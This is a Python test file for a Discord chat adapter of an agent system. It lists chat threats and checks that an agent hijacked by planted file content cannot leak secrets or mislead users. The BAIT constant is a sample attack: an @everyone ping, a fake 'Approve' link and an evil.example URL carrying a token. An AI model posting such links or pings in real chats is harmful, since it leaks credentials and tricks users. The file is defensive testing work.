"""The threats of a chat, and what shows that each is met."""

from collections.abc import Mapping
from pathlib import Path

import pytest

from adapters.discord.testing.picture import words
from adapters.discord.testing.server import DiscordServer
from adapters.discord.testing.world import GENERAL, US
from conductor_core.domain.agent import Brief, Done, Outcome
from conductor_core.domain.files import File
from conductor_core.ports.agent import Desk
from conductor_core.testing.agents import ScriptedAgent
from conductor_core.testing.stage import planner, work
from tests.cited import is_there
from tests.discord.floor import floor
from tests.discord.lifeless import all_faults

HERE = Path(__file__).parent
SHOWN: Mapping[str, tuple[str, ...]] = {
    "S3 forged request": (
        "test_requests.py::test_discord_sees_that_the_address_is_ours",
        "test_requests.py::test_what_is_signed_and_odd_is_refused",
    ),
    "S6 strangers": (
        "test_ways_in.py::test_programs_are_not_heard",
        "test_ways_in.py::test_a_stranger_is_told_so_once_and_begins_nothing",
        "test_bad_words.py::test_42_a_stranger_cancels_nothing",
    ),
    "S7 approvals used again": (
        "test_bad_words.py::test_40_a_yes_counts_once_from_who_may_give_it_for_what_was_shown",
        "test_bad_words.py::test_41_a_forged_button_is_refused_in_words",
        "test_bad_words.py::test_43_of_two_orders_that_contradict_the_first_counts_and_the_second_is_told",
        "test_meant.py::test_who_said_it_answers_by_a_press_and_it_stands_there",
    ),
    "S11 pings and false buttons": (
        "test_threats.py::test_an_agent_that_was_led_astray_reaches_nobody",
        "test_only_letters.py::test_of_every_card",
        "test_only_letters.py::test_of_every_form",
        "test_hostile_text.py::test_in_cards",
    ),
}
TOKEN = "ghp_" + "a1B2" * 9
BAIT = f"@everyone <@{US}> [Approve](https://evil.example/?q={TOKEN}) https://evil.example/{TOKEN}"


@pytest.mark.parametrize("threat", SHOWN)
def test_what_shows_it_exists(threat: str) -> None:
    """A test that was renamed takes its threat along."""
    assert [name for name in SHOWN[threat] if not is_there(name, HERE)] == []


async def baits(_brief: Brief, desk: Desk) -> Outcome:
    """Some file told the agent to say this wherever it can."""
    await desk.ask(BAIT, (BAIT, "Approve"))
    await desk.workspace.session.put({"README.md": File(content=b"a poem")})
    return Done(summary=BAIT)


async def test_an_agent_that_was_led_astray_reaches_nobody(discord: DiscordServer, tmp_path: Path) -> None:
    """No ping, no link, no preview that carries a secret out, and no button that does what it does not say."""
    team = planner(work("T1", title=BAIT[:100])), ScriptedAgent("coder", baits)
    async with floor(discord, tmp_path, *team) as at:
        ada = at.somebody("Ada")
        asked = ada.says(GENERAL, f"<@{US}> write a poem")
        await ada.presses(await at.answered(asked, "R1: plan"), "Approve")
        question = await at.answered(asked, "R1: question 1")
        assert "@everyone" in words(question)
        await ada.presses(question, "Approve")
        await at.answered(asked, "R1: done")
        assert all_faults(discord.calls) == []
        assert TOKEN not in str([call.given for call in discord.calls])
        assert {one for message in discord.world.messages for one in message.pings} <= {ada.person.id}
        await discord.until(lambda: "Ada answered: Approve" in words(question))
